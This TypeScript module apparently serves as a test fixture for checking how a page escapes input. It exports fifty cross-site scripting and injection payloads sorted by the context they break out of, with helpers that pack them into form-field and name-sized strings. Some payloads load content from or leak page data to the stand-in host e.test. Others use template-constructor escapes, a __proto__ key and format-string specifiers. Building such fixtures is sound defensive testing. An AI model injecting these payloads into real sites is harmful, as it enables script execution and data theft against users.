/** Where a text is dangerous if a page puts it there as it is; `nowhere`: what only template engines or loose code would read. */
export type Trap =
  | 'html'
  | 'again'
  | 'decoded'
  | 'double'
  | 'single'
  | 'bare'
  | 'title'
  | 'textarea'
  | 'style'
  | 'script'
  | 'string'
  | 'template'
  | 'line'
  | 'comment'
  | 'cdata'
  | 'link'
  | 'nowhere'

/** Fifty texts, each of which runs, asks another host or bends a page where it is put in as it is; what they call is `xss`. */
export const payloads: readonly (readonly [trap: Trap, text: string])[] = [
  ['html', '<img src=x onerror=xss()>'],
  ['double', '"><img src=x onerror=xss()>'],
  ['html', '<script>xss()</script>'],
  ['html', '<svg onload=xss()>'],
  ['html', '<svg><script>xss()</script></svg>'],
  ['html', '<svg><animate onbegin=xss() attributeName=x>'],
  ['html', '<svg><a xlink:href=javascript:xss()><text>x</a>'],
  ['html', '<math href=javascript:xss()>x</math>'],
  ['html', '<iframe src=javascript:parent.xss()>'],
  ['html', '<iframe srcdoc="<script>parent.xss()</script>">'],
  ['html', '<body onload=xss()>'],
  ['html', '<details open ontoggle=xss()>x</details>'],
  ['html', '<input autofocus onfocus=xss()>'],
  ['html', '<video><source onerror=xss()>'],
  ['html', '<object data=javascript:xss()>'],
  ['html', '<embed src="data:text/html,<b>x">'],
  ['html', '<meta http-equiv=refresh content=9;url=//e.test>'],
  ['html', '<base href=//e.test/>'],
  ['html', '<link rel=stylesheet href=//e.test/x>'],
  ['html', '<style>@import"//e.test/s"</style>'],
  ['html', '<p style=background:url(//e.test/b)>x'],
  ['html', '<p style=width:expression(xss())>x'],
  ['html', '<form action=javascript:xss()><button>x'],
  ['html', '<a href=javascript:xss()>x</a>'],
  ['html', '<a href="data:text/html,x">x</a>'],
  ['html', '<a href="jav&#x09;ascript:xss()">x</a>'],
  ['single', "' autofocus onfocus=xss() x='"],
  ['double', '" onmouseover="xss()'],
  ['bare', 'x onclick=xss()'],
  ['title', '</title><script>xss()</script>'],
  ['textarea', '</textarea><script>xss()</script>'],
  ['style', '</style><script>xss()</script>'],
  ['script', '</script><script>xss()</script>'],
  ['comment', '--><script>xss()</script><!--'],
  ['cdata', ']]><script>xss()</script>'],
  ['string', "';xss();'"],
  ['template', '${xss()}'],
  ['line', '\u2028xss()//'],
  ['nowhere', '{{constructor.constructor("xss()")()}}'],
  ['link', 'javascript:xss()'],
  ['link', 'data:text/html,<script>xss()</script>'],
  ['html', '<noscript><p title="</noscript><img src=x onerror=xss()>">'],
  ['again', '<svg></p><style><a id="</style><img src=x onerror=xss()>">'],
  ['html', '<img name=cookie><form id=body>'],
  ['nowhere', '__proto__'],
  ['single', "x'><img src='//e.test/?"],
  ['nowhere', '%s%n%x%1$s%00'],
  ['nowhere', '\u202e)(ssx=daolno gvs<\u202c＜script＞xss()'],
  ['html', '\u0000<script>xss()</script>'],
  ['decoded', '&lt;img src=x onerror=xss()&gt;x'],
]

/** All of them in one text: for what takes 2,000 characters. */
export const all = payloads.map(([, text]) => text).join(' ')

/** Five texts that hold all of them together, none over 390 characters: for names and form fields. */
export const fifths: readonly string[] = [0, 1, 2, 3, 4].map((nth) =>
  payloads.flatMap(([, text], index) => (index % 5 === nth ? [text] : [])).join(' '),
)

/** Short texts, one or two of them each, none over 90 characters: for names of people. */
export const shorts: readonly string[] = pair(payloads.map(([, text]) => text))

function pair(texts: readonly string[]): string[] {
  const pairs: string[] = []
  for (const text of texts) {
    const joined = `${pairs.at(-1) ?? ''} ${text}`
    if (pairs.length > 0 && joined.length <= 80) pairs[pairs.length - 1] = joined
    else pairs.push(text)
  }
  return pairs
}
